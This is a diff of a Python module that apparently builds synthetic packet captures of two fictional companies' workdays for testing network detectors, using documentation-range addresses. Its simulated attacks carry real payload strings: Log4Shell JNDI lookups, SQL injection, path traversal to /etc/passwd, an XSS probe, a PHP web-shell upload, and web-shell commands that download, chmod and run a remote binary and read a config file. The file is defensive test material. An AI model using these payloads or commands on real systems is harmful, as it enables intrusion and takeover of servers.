@@ -1,20 +1,14 @@
-"""The packets of one working day of two made-up customers.
+"""One working day of two made-up customers, as packets.
 
-`Wire` writes whole conversations (handshake, data, close), so that a detector's application layers have
-something to read. `acme` and `globex` are the days. Every address outside is from the ranges kept for
-documentation, every choice comes from a seeded generator: the same call gives the same packets.
-
-`Wire.seen` lists what a server of the customer would have logged; `wazuh.py` makes its lines from it, so
-that the two detectors tell of the same events.
+Every address outside is from the ranges kept for documentation, every host and name is made up.
 """
 
-import random
 import struct
 
-from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, TCP, UDP, Ether, Raw
+from scapy.all import ICMP, IP, Raw
 
-SECOND = 1_000_000
-FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+from wire import SECOND, Wire, clock
+
 EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Edg/141.0"
 IMPLANT = "Mozilla/4.0 (compatible; MSIE 7.0)"
 NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
@@ -23,203 +17,13 @@ PAGES = ["/", "/orders", "/orders/open", "/stock?part=4711", "/shifts", "/static
 SHOP = ["/", "/shoes", "/shoes/trail-21", "/cart", "/search?q=jacket", "/static/shop.js", "/terms"]
 
 
-def clock(text):
-    """Microseconds since midnight of `hh:mm:ss`."""
-    hours, minutes, seconds = (int(part) for part in text.split(":"))
-    return ((hours * 60 + minutes) * 60 + seconds) * SECOND
-
-
-def inside(address):
-    """Whether the address is one of a customer's."""
-    return address.startswith(("10.", "192.168.", "172.16."))
-
-
-def hello(name, version=0x0303):
-    """A TLS ClientHello that asks for `name`."""
-    host = name.encode()
-    sni = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
-    suites = bytes.fromhex("c02fc030009c009d002f0035")
-    body = struct.pack(">H", version) + bytes(range(32)) + b"\0"
-    body += struct.pack(">H", len(suites)) + suites + b"\x01\0" + struct.pack(">H", len(sni)) + sni
-    shake = b"\x01" + struct.pack(">I", len(body))[1:] + body
-    return b"\x16\x03\x01" + struct.pack(">H", len(shake)) + shake
-
-
-def hello_back(version=0x0303):
-    """The ServerHello for `hello`, with ChangeCipherSpec, after which all is taken to be encrypted."""
-    body = struct.pack(">H", version) + bytes(range(32, 64)) + b"\0" + bytes.fromhex("c02f00")
-    shake = b"\x02" + struct.pack(">I", len(body))[1:] + body
-    record = struct.pack(">BHH", 22, version, len(shake)) + shake
-    return record + struct.pack(">BHHB", 20, version, 1, 1)
-
-
-def smb2(command, body, message, answer=False):
-    """An SMB2 message in its NetBIOS frame."""
-    head = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ", 64, 0, 0, command, 31, int(answer), 0, message, 0, 1, 7)
-    packet = head + bytes(16) + body
-    return struct.pack(">I", len(packet)) + packet
-
-
-def key_exchange():
-    """An SSH key exchange offer."""
-    names = [b"curve25519-sha256", b"ssh-ed25519", b"aes256-ctr", b"aes256-ctr", b"hmac-sha2-256",
-             b"hmac-sha2-256", b"none", b"none", b"", b""]
-    body = b"\x14" + bytes(range(16)) + b"".join(struct.pack(">I", len(n)) + n for n in names) + bytes(5)
-    pad = 8 - (len(body) + 5) % 8 + 4
-    return struct.pack(">IB", len(body) + pad + 1, pad) + body + bytes(pad)
-
-
-class Wire:
-    """Packets of one network, as (time in microseconds since midnight, order, bytes)."""
-
-    def __init__(self, seed):
-        self.rng = random.Random(seed)
-        self.packets = []
-        self.seen = []
-        self.port = 33_000
-
-    def put(self, at, client, layers):
-        """One packet, sent by `client` at `at`."""
-        mac = "02:00:" + ":".join(f"{int(part):02x}" for part in client.split("."))
-        frame = Ether(src=mac, dst="02:00:00:00:00:01") / layers
-        self.packets.append((at, len(self.packets), bytes(frame)))
-
-    def sport(self):
-        """The next client port: never the same twice within a day."""
-        self.port += self.rng.randint(1, 4)
-        assert self.port < 65_536
-        return self.port
-
-    def spread(self, start, end, count):
-        """`count` times between two clock texts, in order."""
-        return sorted(self.rng.randrange(clock(start), clock(end)) for _ in range(count))
-
-    def every(self, start, end, seconds, jitter=0):
-        """Times with a fixed period, each moved by up to `jitter` milliseconds."""
-        times = range(clock(start), clock(end), seconds * SECOND)
-        return [at + self.rng.randint(0, jitter * 1000) for at in times]
-
-    def tcp(self, at, client, server, port, turns=(), answer="open", think=2_000):
-        """One connection. `turns` are (from the client, data); `answer` is open, closed or silent."""
-        sport, far = self.sport(), not (inside(client) and inside(server))
-        delay = self.rng.randint(18_000, 60_000) if far else self.rng.randint(150, 400)
-        seq = {True: self.rng.getrandbits(31), False: self.rng.getrandbits(31)}
-
-        def send(up, flags, data=b""):
-            nonlocal at
-            pair = (client, server, sport, port) if up else (server, client, port, sport)
-            ip = IP(src=pair[0], dst=pair[1], ttl=64 if inside(pair[0]) else 52, id=len(self.packets) % 65_536)
-            ack = seq[not up] if "A" in flags else 0
-            layers = ip / TCP(sport=pair[2], dport=pair[3], flags=flags, seq=seq[up], ack=ack)
-            self.put(at, pair[0], layers / Raw(data) if data else layers)
-            seq[up] = (seq[up] + len(data) + ("S" in flags or "F" in flags)) % 2**32
-            at += delay
-
-        send(True, "S")
-        if answer == "closed":
-            send(False, "RA")
-        if answer != "open":
-            return
-        send(False, "SA")
-        send(True, "A")
-        for up, data in turns:
-            at += think + self.rng.randint(0, think)
-            for begin in range(0, len(data), 1_400):
-                send(up, "PA", data[begin : begin + 1_400])
-            send(not up, "A")
-        send(True, "FA")
-        send(False, "FA")
-        send(True, "A")
-
-    def http(self, at, client, server, host, uri, method="GET", agent=FIREFOX, status=200, body=b"",
-             reply=None, headers=(), port=80, kind="text/html"):
-        """One request and its answer."""
-        reply = b"<html>" + b"x" * self.rng.randint(80, 900) + b"</html>" if reply is None else reply
-        lines = [f"{method} {uri} HTTP/1.1", f"Host: {host}", f"User-Agent: {agent}", "Accept: */*", *headers]
-        if body:
-            lines.append(f"Content-Length: {len(body)}")
-        words = {200: "OK", 302: "Found", 401: "Unauthorized", 403: "Forbidden", 404: "Not Found",
-                 500: "Internal Server Error"}
-        back = [f"HTTP/1.1 {status} {words[status]}", "Server: nginx", f"Content-Type: {kind}",
-                f"Content-Length: {len(reply)}"]
-        turns = [(up, "\r\n".join(head).encode() + b"\r\n\r\n" + data)
-                 for up, head, data in ((True, lines, body), (False, back, reply))]
-        self.tcp(at, client, server, port, turns)
-        self.seen.append({"kind": "http", "at": at, "client": client, "server": server, "method": method,
-                          "uri": uri, "status": status, "length": len(reply), "agent": agent})
-
-    def dns(self, at, client, server, name, answer="203.0.113.80", kind="A"):
-        """One query and its answer; no `answer` is a name that does not exist."""
-        port, number = self.sport(), self.rng.getrandbits(16)
-        ask = DNSQR(qname=name, qtype=kind)
-        self.put(at, client, IP(src=client, dst=server) / UDP(sport=port, dport=53) / DNS(id=number, rd=1, qd=ask))
-        found = DNSRR(rrname=name, type=kind, ttl=300, rdata=answer) if answer else None
-        reply = DNS(id=number, qr=1, ra=1, rd=1, rcode=0 if answer else 3, qd=ask, an=found)
-        self.put(at + self.rng.randint(700, 30_000), server,
-                 IP(src=server, dst=client) / UDP(sport=53, dport=port) / reply)
-
-    def tls(self, at, client, server, name, version=0x0303):
-        """One connection on 443 with something sent either way."""
-        record = struct.pack(">BHH", 23, version, 600) + self.rng.randbytes(600)
-        done = struct.pack(">BHHB", 20, version, 1, 1)
-        turns = [(True, hello(name, version)), (False, hello_back(version)), (True, done + record), (False, record)]
-        self.tcp(at, client, server, 443, turns)
-
-    def ssh(self, at, client, server, user, software="OpenSSH_9.2p1", result="failed", port=22):
-        """One login attempt. `result`, for the server's log, is failed, invalid (no such user) or accepted."""
-        kex, blob = key_exchange(), self.rng.randbytes(640 if result == "accepted" else 160)
-        turns = [(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"), (True, f"SSH-2.0-{software}\r\n".encode()),
-                 (True, kex), (False, kex), (True, blob), (False, blob)]
-        self.seen.append({"kind": "ssh", "at": at + SECOND, "client": client, "server": server, "user": user,
-                          "result": result, "port": self.port + 7})
-        self.tcp(at, client, server, port, turns)
-
-    def ftp(self, at, client, server, user, word):
-        """A login with the password in clear."""
-        lines = ["220 ready", f"USER {user}", "331 password please", f"PASS {word}", "230 logged in", "QUIT", "221 bye"]
-        self.tcp(at, client, server, 21, [(i % 2 == 1, f"{line}\r\n".encode()) for i, line in enumerate(lines)])
-
-    def smb(self, at, client, server, share):
-        """Negotiate a dialect and connect to a share."""
-        path = share.encode("utf-16-le")
-        ask = struct.pack("<HHHHI", 36, 2, 1, 0, 0) + bytes(24) + struct.pack("<HH", 0x0210, 0x0302)
-        agreed = struct.pack("<HHHH", 65, 1, 0x0302, 0) + bytes(16) + struct.pack("<IIII", 1, 65_536, 65_536, 65_536)
-        agreed += bytes(16) + struct.pack("<HHI", 128, 0, 0)
-        tree = struct.pack("<HHHH", 9, 0, 72, len(path)) + path
-        joined = struct.pack("<HBBIII", 16, 1, 0, 0, 0, 0x1F01FF)
-        self.tcp(at, client, server, 445, [(True, smb2(0, ask, 0)), (False, smb2(0, agreed, 0, True)),
-                                           (True, smb2(3, tree, 1)), (False, smb2(3, joined, 1, True))])
-
-    def modbus(self, at, client, server, write):
-        """Read ten registers, or write one."""
-        function, value = (6, self.rng.randint(0, 900)) if write else (3, 10)
-        ask = struct.pack(">HHHBBHH", 1, 0, 6, 1, function, 40, value)
-        back = ask if write else struct.pack(">HHHBBB", 1, 0, 23, 1, 3, 20) + bytes(20)
-        self.tcp(at, client, server, 502, [(True, ask), (False, back)])
-
-    def stratum(self, at, client, server, worker):
-        """A miner that logs in to its pool."""
-        login = ('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x",'
-                 '"agent":"miner/6.20"}}\n' % worker)
-        back = '{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"1","status":"OK"}}\n'
-        self.tcp(at, client, server, 3333, [(True, login.encode()), (False, back.encode())])
-
-    def scan(self, at, client, server, ports, gap=40_000):
-        """Try ports one after the other; a few of them are silent, the others closed."""
-        for n, port in enumerate(ports):
-            self.tcp(at + n * gap, client, server, port, answer="silent" if n % 9 == 0 else "closed")
-
-    def label(self, length):
-        """Letters and digits such as no person chooses."""
-        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(length))
-
-
 def acme():
     """A manufacturer: a brute force on the jump host that succeeds, and what comes of it."""
     w = Wire("acme")
     dc, files, jump, erp, scanner, hist = (f"10.20.1.{n}" for n in (10, 20, 30, 40, 90, 60))
     desks = [f"10.20.10.{n}" for n in range(101, 131)]
-    hmi, plcs, attacker, control = "10.20.50.5", [f"10.20.50.{n}" for n in (11, 12, 13)], "203.0.113.77", "198.51.100.23"
+    hmi, plcs, attacker, control = "10.20.50.5", [f"10.20.50.{n}" for n in (11, 12,
+                                                                            13)], "203.0.113.77", "198.51.100.23"
     # An ordinary day.
     for at in w.spread("08:00:00", "16:20:00", 90):
         w.http(at, w.rng.choice(desks), erp, "erp.acme.example", w.rng.choice(PAGES), agent=EDGE)
@@ -233,7 +37,7 @@ def acme():
         w.modbus(at, hmi, w.rng.choice(plcs), write=False)
     for at in w.spread("08:10:00", "16:00:00", 9):
         w.ssh(at, "10.20.10.114", jump, "mbauer", result="accepted")
-    # What alerts every day and means nothing: a nightly job over FTP, an old panel, printers, the own scanner.
+    # What alerts every day and means nothing: a job over FTP, an old panel, printers, the own scanner.
     for at in w.every("08:05:00", "16:20:00", 900, jitter=1_500):
         w.ftp(at, hist, files, "histsync", "Line4-export")
     for at in w.every("08:02:00", "16:20:00", 1_200, jitter=900):
@@ -245,24 +49,26 @@ def acme():
         w.http(at, erp, "203.0.113.90", "feed.steelprices.example", "/v1/today.csv", agent="curl/7.88.1")
     for n, target in enumerate((files, erp, hist)):
         w.scan(clock("08:30:00") + n * 300 * SECOND, scanner, target, range(1, 121))
+    ask = b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=helpdesk\r\n\x01\0\x08\0\x03\0\0\0"
     for at in w.spread("09:00:00", "15:00:00", 7):
-        w.tcp(at, w.rng.choice(desks), dc, 3389, [(True, b"\x03\0\0\x2b\x26\xe0\0\0\0\0\0Cookie: mstshash=helpdesk\r\n"
-                                                        b"\x01\0\x08\0\x03\0\0\0"), (False, b"\x03\0\0\x0b\x06\xd0\0\0\x12\x34\0")])
+        w.tcp(at, w.rng.choice(desks), dc, 3389, [(True, ask), (False, b"\x03\0\0\x0b\x06\xd0\0\0\x12\x34\0")])
     for at in w.spread("08:00:00", "16:00:00", 8):
         w.http(at, w.rng.choice(desks), "203.0.113.99", "v4.myaddress.example", "/", reply=b"203.0.113.5", agent=EDGE)
-    # 09:05 a scan from outside, 09:12 guessing of passwords, 09:27 one is right.
+    # 09:05 a scan from outside, 09:18 guessing of passwords, 09:27 one is right.
     w.scan(clock("09:05:12"), attacker, jump, range(20, 120), gap=90_000)
     names = ["root", "admin", "oracle", "backup", "mbauer", "jkeller", "test", "postgres"]
     for n in range(88):
         user = names[n % len(names)]
         known = user in ("root", "backup", "mbauer", "jkeller")
-        w.ssh(clock("09:12:30") + n * 10 * SECOND + w.rng.randint(0, 400_000), attacker, jump, user,
+        w.ssh(clock("09:18:40") + n * 6 * SECOND + w.rng.randint(0, 400_000), attacker, jump, user,
               software="libssh_0.9.6", result="failed" if known else "invalid")
     w.ssh(clock("09:27:41"), attacker, jump, "mbauer", software="libssh_0.9.6", result="accepted")
     # The implant reports every five minutes from then on.
-    w.http(clock("09:33:10"), jump, control, "cdn-eu.example", "/pkg/agent.bin", agent="curl/7.88.1", reply=b"\x7fELF" + bytes(1_900))
+    w.http(clock("09:33:10"), jump, control, "cdn-eu.example", "/pkg/agent.bin", agent="curl/7.88.1",
+           reply=b"\x7fELF" + bytes(1_900))
     for at in w.every("09:40:00", "16:20:00", 300, jitter=350):
-        w.http(at, jump, control, "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT, body=b"id=7f31&s=" + w.label(48).encode(), reply=b"ok")
+        w.http(at, jump, control, "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT,
+               body=b"id=7f31&s=" + w.label(48).encode(), reply=b"ok")
     # 09:50 it looks around, 10:05 it moves.
     for n in range(1, 121):
         packet = ICMP(id=77, seq=n) / Raw(bytes(32))
@@ -270,24 +76,30 @@ def acme():
     for host in (erp, hist):
         w.ssh(clock("10:05:09") + (host == hist) * 95 * SECOND, jump, host, "svc-update", result="accepted")
     for n in range(9):
-        w.smb(clock("10:11:30") + n * 47 * SECOND, jump, (files, dc)[n % 2], "\\\\%s\\ADMIN$" % ("acme-fs1", "acme-dc1")[n % 2])
-    w.tcp(clock("10:20:02"), jump, dc, 53, [(True, struct.pack(">HHHHHHH", 30, 9, 0, 1, 0, 0, 0) + b"\4acme\7example\0\0\xfc\0\1")])
+        w.smb(clock("10:11:30") + n * 47 * SECOND, jump, (files, dc)[n % 2],
+              "\\\\%s\\ADMIN$" % ("acme-fs1", "acme-dc1")[n % 2])
+    transfer = struct.pack(">HHHHHHH", 30, 9, 0, 1, 0, 0, 0) + b"\4acme\7example\0\0\xfc\0\1"
+    w.tcp(clock("10:20:02"), jump, dc, 53, [(True, transfer)])
     for n in range(12):
         w.modbus(clock("11:20:15") + n * 8 * SECOND, jump, plcs[n % 3], write=True)
     for n in range(6):
-        w.tcp(clock("11:02:40") + n * 31 * SECOND, jump, plcs[n % 3], 23, [(False, b"PLC-S4 login: "), (True, b"service\r\n"), (False, b"Password: ")])
+        w.tcp(clock("11:02:40") + n * 31 * SECOND, jump, plcs[n % 3], 23,
+              [(False, b"PLC-S4 login: "), (True, b"service\r\n"), (False, b"Password: ")])
     for at in w.every("10:31:00", "16:10:00", 1_200, jitter=2_000):
         w.stratum(at, hist, "198.51.100.61", "47x" + "a1b2c3d4" * 4 + ".hist")
     # Apart from that, a workstation with something bad of its own.
     w.http(clock("10:44:05"), "10.20.10.121", "198.51.100.88", "free-cad-viewer.example", "/setup.exe", agent=EDGE,
-           kind="application/octet-stream", reply=b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\n" + bytes(1_500))
+           kind="application/octet-stream",
+           reply=b"MZ" + bytes(76) + b"This program cannot be run in DOS mode.\r\n" + bytes(1_500))
     for at in w.spread("10:50:00", "16:15:00", 46):
         w.dns(at, "10.20.10.121", dc, w.label(18) + w.rng.choice([".top", ".top", ".info"]), answer=None)
     for n, at in enumerate(w.spread("13:05:00", "13:40:00", 14)):
         w.smb(at, "10.20.10.121", desks[n], f"\\\\ACME-WS-{n + 1:03d}\\C$")
     for n in range(8):
-        w.http(clock("14:10:00") + n * 13 * SECOND, f"198.51.100.{140 + n % 3}", erp, "erp.acme.example", "/login", status=404,
-               headers=["X-Api-Version: ${jndi:ldap://198.51.100.140:1389/%s}" % w.label(6)], agent="Mozilla/5.0 zgrab/0.x")
+        w.http(clock("14:10:00") + n * 13 * SECOND, f"198.51.100.{140 + n % 3}", erp, "erp.acme.example", "/login",
+               status=404,
+               headers=["X-Api-Version: ${jndi:ldap://198.51.100.140:1389/%s}" % w.label(6)],
+               agent="Mozilla/5.0 zgrab/0.x")
     return w
 
 
@@ -323,40 +135,53 @@ def globex():
     for n, web in enumerate(webs):
         w.scan(clock("08:38:00") + n * 40 * SECOND, scanner, web, range(1, 131), gap=200_000)
     paths = ["/admin/", "/backup.zip", "/.env", "/phpinfo.php", "/.git/config", "/cgi-bin/test.cgi", "/server-status",
-             "/old/", "/%2e%2e%2f%2e%2e%2fetc/passwd", "/index.php?page=../../../../etc/passwd", "/search?q=<script>alert(1)</script>"]
+             "/old/", "/%2e%2e%2f%2e%2e%2fetc/passwd", "/index.php?page=../../../../etc/passwd",
+             "/search?q=<script>alert(1)</script>"]
     for n in range(99):
-        w.http(clock("08:41:10") + n * 2_300_000, scanner, webs[0], shop, paths[n % len(paths)], agent=NIKTO % (n + 1), status=404)
+        w.http(clock("08:41:10") + n * 2_300_000, scanner, webs[0], shop, paths[n % len(paths)], agent=NIKTO % (n + 1),
+               status=404)
     for n in range(48):
         query = "1" if n % 4 else f"-{n}%20UNION%20ALL%20SELECT%20{n},NULL,NULL--%20-"
-        w.http(clock("09:02:30") + n * 1_700_000, intruder, webs[1], shop, f"/shoes/list?size={query}", agent=SQLMAP, status=500 if n % 5 == 0 else 200)
+        w.http(clock("09:02:30") + n * 1_700_000, intruder, webs[1], shop, f"/shoes/list?size={query}", agent=SQLMAP,
+               status=200 if n % 4 else 500)
     for n in range(14):
-        w.http(clock("09:20:00") + n * 21 * SECOND, intruder, webs[n % 2], shop, "/download?file=../../../../var/www/" + w.label(5), status=403)
+        w.http(clock("09:20:00") + n * 21 * SECOND, intruder, webs[n % 2], shop,
+               "/download?file=../../../../var/www/" + w.label(5), status=403)
     for n in range(20):
         lookup = "${${lower:j}ndi:ldap://203.0.113.150/%s}" if n % 3 == 0 else "${jndi:ldap://203.0.113.150:1389/%s}"
-        w.http(clock("09:41:00") + n * 9 * SECOND, intruder, webs[n % 2], shop, "/search?q=hat", headers=["X-Forwarded-For: " + lookup % w.label(4)])
+        w.http(clock("09:41:00") + n * 9 * SECOND, intruder, webs[n % 2], shop, "/search?q=hat",
+               headers=["X-Forwarded-For: " + lookup % w.label(4)])
     for at in w.every("09:50:00", "10:14:00", 9, jitter=3_000):
-        w.http(at, f"198.51.100.{210 + w.rng.randint(0, 2)}", webs[0], shop, "/account/login", method="POST", status=401,
+        w.http(at, f"198.51.100.{210 + w.rng.randint(0, 2)}", webs[0], shop, "/account/login", method="POST",
+               status=401,
                body=f"mail={w.label(6)}@mail.example&word={w.label(8)}".encode())
     # 10:18 the upload, and what is done with it.
     form = (b'--b1\r\nContent-Disposition: form-data; name="picture"; filename="invoice-2291.php"\r\n'
             b"Content-Type: image/png\r\n\r\n(a script of one line)\r\n--b1--\r\n")
     w.http(clock("10:18:22"), intruder, webs[0], shop, "/account/picture", method="POST", body=form,
            headers=["Content-Type: multipart/form-data; boundary=b1"], status=302)
-    commands = ["id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www", "ss%20-tlnp", "cat%20/var/www/shop/config.php", "id", "ps%20aux",
-                "crontab%20-l", "curl%20-o%20/tmp/.x%20http://198.51.100.61/x", "chmod%20755%20/tmp/.x", "nohup%20/tmp/.x", "id"]
+    commands = ["id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www", "ss%20-tlnp",
+                "cat%20/var/www/shop/config.php", "id", "ps%20aux",
+                "crontab%20-l", "curl%20-o%20/tmp/.x%20http://198.51.100.61/x", "chmod%20755%20/tmp/.x",
+                "nohup%20/tmp/.x", "id"]
     for n, command in enumerate(commands * 2):
         reply = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n" if command == "id" else None
-        w.http(clock("10:19:04") + n * 74 * SECOND, intruder, webs[0], shop, f"/uploads/invoice-2291.php?cmd={command}", reply=reply)
-    w.http(clock("10:30:12"), webs[0], "198.51.100.61", "198.51.100.61", "/x", agent="curl/7.88.1", reply=b"\x7fELF" + bytes(2_400))
+        w.http(clock("10:19:04") + n * 74 * SECOND, intruder, webs[0], shop, f"/uploads/invoice-2291.php?cmd={command}",
+               reply=reply)
+    w.http(clock("10:30:12"), webs[0], "198.51.100.61", "198.51.100.61", "/x", agent="curl/7.88.1",
+           reply=b"\x7fELF" + bytes(2_400))
     for at in w.every("11:00:00", "16:15:00", 900, jitter=2_500):
         w.stratum(at, webs[0], "198.51.100.61", "48y" + "e5f60718" * 4 + ".web01")
     # 12:30 the application server sends something out by names, and reports.
     for n in range(60):
-        w.dns(clock("12:30:00") + n * 11 * SECOND, app, resolver, f"{w.label(44)}.t{n:02d}.sync-cdn.example", kind="TXT", answer="ok")
+        w.dns(clock("12:30:00") + n * 11 * SECOND, app, resolver, f"{w.label(44)}.t{n:02d}.sync-cdn.example",
+              kind="TXT", answer="ok")
     for at in w.every("12:45:00", "16:20:00", 600, jitter=400):
-        w.http(at, app, "198.51.100.23", "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT, body=b"id=02ac&s=" + w.label(48).encode(), reply=b"ok")
+        w.http(at, app, "198.51.100.23", "cdn-eu.example", "/v2/pulse", method="POST", agent=IMPLANT,
+               body=b"id=02ac&s=" + w.label(48).encode(), reply=b"ok")
     for n in range(44):
-        w.ssh(clock("13:30:00") + n * 6 * SECOND, f"203.0.113.{200 + n % 4}", webs[1], ("root", "git", "ubuntu", "deploy")[n % 4],
+        w.ssh(clock("13:30:00") + n * 6 * SECOND, f"203.0.113.{200 + n % 4}", webs[1],
+              ("root", "git", "ubuntu", "deploy")[n % 4],
               software="libssh2_1.10.0" if n % 2 else "OpenSSH_8.0", result="failed" if n % 4 in (0, 3) else "invalid")
     w.scan(clock("14:05:00"), app, database, range(1_400, 1_480))
     return w
